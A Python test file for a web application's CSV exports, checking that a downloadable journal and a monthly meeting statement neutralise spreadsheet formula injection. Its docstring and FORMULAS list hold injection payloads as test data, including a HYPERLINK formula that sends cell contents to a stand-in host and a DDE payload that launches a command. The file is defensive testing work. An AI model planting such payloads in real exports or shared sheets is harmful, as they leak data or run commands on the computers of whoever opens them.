"""Attack: somebody is called `=HYPERLINK("https://ailleurs.example?"&A1)`, or names a group so. The
organiser opens the table in a spreadsheet, which runs it and sends the neighbouring cells away.

Every table that can be downloaded is read here with such names in it; a table that is added fails
until it is listed.
"""

import csv
import io

import pytest
from litestar import Litestar
from tests.booking.world import NOON, a_group, slots
from tests.fuzz import rows
from tests.organisation.world import House, participant
from tests.privacy import groups
from tests.routes import Route, routes
from tests.visitors import Visitor

from recul import clock, spreadsheets
from recul.web.roles import Role

FORMULAS = (
    '=HYPERLINK("https://ailleurs.example?"&A1)',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    ' =1+1";=1+1',
    ";=1+1",
    '";=1+1;"',
    '"=1+1',
    "a\n=1+1",
)
TABLES = {"/animation/releve.csv", "/carnet/export/carnet.csv"}
STARTS = tuple("=+-@\t\r\n＝＋－＠")


def cells(content: bytes) -> list[str]:
    """As a French spreadsheet reads them."""
    text = io.StringIO(content.decode("utf-8-sig"), newline="")
    return [cell for row in csv.reader(text, delimiter=";") for cell in row]


def assert_harmless(content: bytes) -> None:
    for cell in cells(content):
        assert not cell.startswith(STARTS), cell


def test_the_tables_are_these(app: Litestar):
    found = {route.path for route in routes(app) if "csv" in route.path}
    assert found == TABLES


async def test_a_journal_that_is_downloaded(ana: Visitor):
    for number, formula in enumerate(FORMULAS):
        fields = {"text-line": formula, "own_feeling": formula, "own_context": formula}
        await ana.post("/carnet/vite", fields | {"nonce": str(number)})
    table = await ana.get("/carnet/export/carnet.csv")
    assert table.headers["content-type"].startswith("text/csv")
    assert "HYPERLINK" in table.text
    assert_harmless(table.content)


async def test_a_statement_of_meetings(app: Litestar, house: House):
    await participant(app, house)
    ferdinand = house.people[Role.FACILITATOR]
    with clock.set_to(NOON):
        await groups.groups(house)
        for number, formula in enumerate(FORMULAS):
            day = slots(1, NOON.date().replace(day=2 + number))
            await a_group(house, *day, name=formula[:100], purpose=formula)
        address = f"/animation/releve.csv?structure={house.organisation}&mois=2026-11"
        table = await ferdinand.get(address)
    assert table.status_code == 200
    assert_harmless(table.content)


@pytest.mark.parametrize("formula", FORMULAS)
def test_any_cell(formula: str):
    content = spreadsheets.table([[formula, "2", formula]])
    assert_harmless(content)
    # The cell is one cell still, and says what was typed.
    [row] = csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""), delimiter=";")
    assert len(row) == 3
    assert row[0].removeprefix("'") == formula


async def test_every_table_is_served_as_a_file(app: Litestar, house: House):
    before = await rows.everything()
    for route in routes(app):
        if route.path in TABLES:
            assert isinstance(route, Route)
            for visitor in house.people.values():
                answer = await visitor.get(f"{route.path}?structure={house.organisation}")
                if answer.status_code == 200:
                    assert answer.headers["content-disposition"].startswith("attachment;")
                    assert answer.headers["x-content-type-options"] == "nosniff"
    assert {name: len(held) for name, held in before.items()}["account"] > 0
